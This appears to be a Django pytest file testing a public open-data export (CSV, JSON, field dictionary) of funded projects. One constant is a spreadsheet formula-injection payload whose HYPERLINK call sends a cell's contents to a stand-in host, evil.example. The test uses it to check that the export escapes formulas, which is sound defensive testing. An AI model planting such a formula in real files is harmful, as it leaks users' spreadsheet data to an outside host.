"""Open data: funded projects of announced calls only, CSV with BOM and formulas kept as text,
JSON, and a dictionary naming every field."""

import csv
import io
import json
from html import escape

import pytest
from django.test import Client
from django.urls import reverse

from core.spreadsheet import FORMULA_STARTS
from proposals.models import Proposal
from public_pages.opendata import FIELDS
from tests.public_pages.conftest import SELECTED_TITLE

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Open")'


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def test_before_the_announcement_the_csv_has_only_its_header(public_world):
    rows = rows_of(Client().get(reverse("public:open_data_csv")))
    assert rows == [[f.name for f in FIELDS]]
    assert json.loads(Client().get(reverse("public:open_data_json")).content)["projects"] == []


def test_after_the_announcement_each_funded_year_is_a_row_and_formulas_stay_text(public_world, announce_results):
    chosen = public_world["chosen"]
    Proposal.objects.filter(pk=chosen.pk).update(title_en=HYPERLINK)
    announce_results(public_world["call"])
    rows = rows_of(Client().get(reverse("public:open_data_csv")))
    header, body = rows[0], rows[1:]
    assert [r[header.index("year")] for r in body] == ["2027", "2028", "2029"]
    assert {r[header.index("title_ko")] for r in body} == {SELECTED_TITLE}
    assert {r[header.index("title_en")] for r in body} == {"'" + HYPERLINK}
    assert {r[header.index("national_funding_won")] for r in body} == {"1800000000"}
    assert {r[header.index("local_funding_won")] for r in body} == {"400000000"}  # 2억 each, two regions
    assert {r[header.index("regions")] for r in body} == {"gwangju;jeonnam"}
    assert [c for r in body for c in r if c.startswith(FORMULA_STARTS)] == []


def test_the_json_nests_the_years_and_names_the_dictionary(public_world, announce_results):
    announce_results(public_world["call"])
    data = json.loads(Client().get(reverse("public:open_data_json"), {"call": public_world["call"].pk}).content)
    assert data["dictionary"] == reverse("public:open_data")
    [project] = data["projects"]
    assert project["title_ko"] == SELECTED_TITLE and project["regions"] == ["gwangju", "jeonnam"]
    assert project["years"][0] == {"year": 2027, "national_funding_won": 1800000000, "local_funding_won": 400000000}


def test_a_call_filter_that_is_not_an_announced_call_gives_an_empty_set(public_world, announce_results):
    announce_results(public_world["call"])
    for value in ("abc", "²", str(public_world["draft"].pk), "999999", "-1"):
        rows = rows_of(Client().get(reverse("public:open_data_csv"), {"call": value}))
        assert rows == [[f.name for f in FIELDS]], value


def test_the_dictionary_names_every_field_in_both_languages(public_world):
    text = Client().get(reverse("public:open_data")).content.decode()
    for f in FIELDS:
        assert f"<code>{f.name}</code>" in text and escape(f.en) in text and escape(f.ko) in text
